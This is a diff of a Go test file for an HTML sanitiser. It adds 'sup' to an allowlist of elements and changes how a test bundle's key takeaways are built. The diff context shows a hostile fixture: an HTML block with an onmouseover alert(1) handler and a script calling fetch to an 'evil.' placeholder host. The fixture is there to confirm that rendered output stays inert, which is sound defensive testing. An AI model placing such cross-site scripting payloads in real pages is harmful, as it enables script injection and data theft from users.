@@ -59,7 +59,7 @@ const rawBlock = "<div onmouseover=\"alert(1)\">\n<script>\nfetch('https://evil.
 var allowedElements = map[string]bool{
 	"main": true, "p": true, "h1": true, "h2": true, "h3": true, "h4": true, "ul": true, "ol": true, "li": true,
 	"a": true, "strong": true, "em": true, "del": true, "code": true, "pre": true, "blockquote": true, "br": true,
-	"hr": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
+	"hr": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "sup": true,
 }
 
 // assertInert parses an HTML fragment as a browser would and checks it can
@@ -109,7 +109,7 @@ func hostileBundle() Bundle {
 			{Format: content.FormatOnePager, Value: &content.OnePager{
 				Title:            "Tides",
 				ExecutiveSummary: "Tides are **long waves** driven by the Moon. " + hostileHTML[0],
-				KeyTakeaways:     append(append([]string{"Read [the NOAA primer](https://oceanservice.noaa.gov/education/tutorial_tides/)."}, hostileHTML...), hostileMarkdown...),
+				KeyTakeaways:     content.Takeaways(append(append([]string{"Read [the NOAA primer](https://oceanservice.noaa.gov/education/tutorial_tides/)."}, hostileHTML...), hostileMarkdown...)...),
 				MainContent:      all + "\n\n" + rawBlock + "\n\nThe end.",
 			}},
 			{Format: content.FormatFAQs, Value: &content.FAQs{Title: "Tides", FAQs: []content.FAQ{
